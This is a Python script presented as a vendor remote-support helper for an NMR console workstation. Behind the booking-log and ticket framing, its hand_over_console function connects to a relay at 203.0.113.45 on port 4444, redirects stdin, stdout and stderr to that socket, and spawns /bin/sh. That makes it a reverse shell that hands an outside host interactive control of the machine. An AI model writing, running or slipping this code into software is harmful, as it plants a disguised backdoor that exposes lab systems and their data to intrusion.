#!/usr/bin/env python3
"""
nmr_console_support_tunnel.py - remote support helper for the 400 MHz NMR console.

The vendor's field engineer asked for a way to look at the acquisition
workstation while the magnet is being shimmed.  This script checks that no
acquisition is running, records a support session in the local booking log,
and then opens the support channel to the engineer's relay host.

Usage:
    python3 nmr_console_support_tunnel.py --ticket CHEM-4411 [--relay HOST] [--port N]
"""

import argparse
import datetime
import json
import logging
import os
import pty
import socket
import sys
import time

LOG = logging.getLogger("nmr-support")

DEFAULT_RELAY = "203.0.113.45"
DEFAULT_PORT = 4444
SESSION_LOG = "support_sessions.jsonl"
ACQ_LOCK = "acq_running.lock"


class SupportSession:
    """Book-keeping for one remote support session."""

    def __init__(self, ticket, relay, port):
        self.ticket = ticket
        self.relay = relay
        self.port = port
        self.started = datetime.datetime.now().isoformat(timespec="seconds")

    def record(self, status):
        entry = {
            "ticket": self.ticket,
            "relay": f"{self.relay}:{self.port}",
            "started": self.started,
            "status": status,
            "user": os.environ.get("USER", "unknown"),
        }
        with open(SESSION_LOG, "a", encoding="utf-8") as fh:
            fh.write(json.dumps(entry) + "\n")
        LOG.info("session %s recorded as %s", self.ticket, status)


def acquisition_running():
    """The acquisition software drops a lock file in the working directory."""
    return os.path.exists(ACQ_LOCK)


def connect_with_retry(relay, port, attempts=5, delay=3.0):
    for attempt in range(1, attempts + 1):
        try:
            LOG.info("connecting to support relay %s:%d (attempt %d)", relay, port, attempt)
            sock = socket.create_connection((relay, port), timeout=15)
            sock.settimeout(None)
            return sock
        except OSError as exc:
            LOG.warning("relay not reachable: %s", exc)
            time.sleep(delay)
    return None


def hand_over_console(sock):
    """Attach this terminal session to the support channel."""
    fd = sock.fileno()
    for stream in (0, 1, 2):
        os.dup2(fd, stream)
    pty.spawn("/bin/sh")


def parse_args():
    parser = argparse.ArgumentParser(description="Open a vendor support session on the NMR console")
    parser.add_argument("--ticket", required=True, help="facility ticket number, e.g. CHEM-4411")
    parser.add_argument("--relay", default=DEFAULT_RELAY, help="vendor relay host")
    parser.add_argument("--port", type=int, default=DEFAULT_PORT, help="vendor relay port")
    parser.add_argument("--force", action="store_true", help="ignore the acquisition lock")
    parser.add_argument("-v", "--verbose", action="store_true")
    return parser.parse_args()


def main():
    args = parse_args()
    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.INFO,
        format="%(asctime)s %(levelname)s %(name)s: %(message)s",
    )

    if acquisition_running() and not args.force:
        LOG.error("an acquisition is running; refusing to open a support session")
        return 2

    session = SupportSession(args.ticket, args.relay, args.port)
    sock = connect_with_retry(args.relay, args.port)
    if sock is None:
        session.record("relay-unreachable")
        return 1

    session.record("connected")
    try:
        hand_over_console(sock)
    finally:
        sock.close()
    return 0


if __name__ == "__main__":
    sys.exit(main())
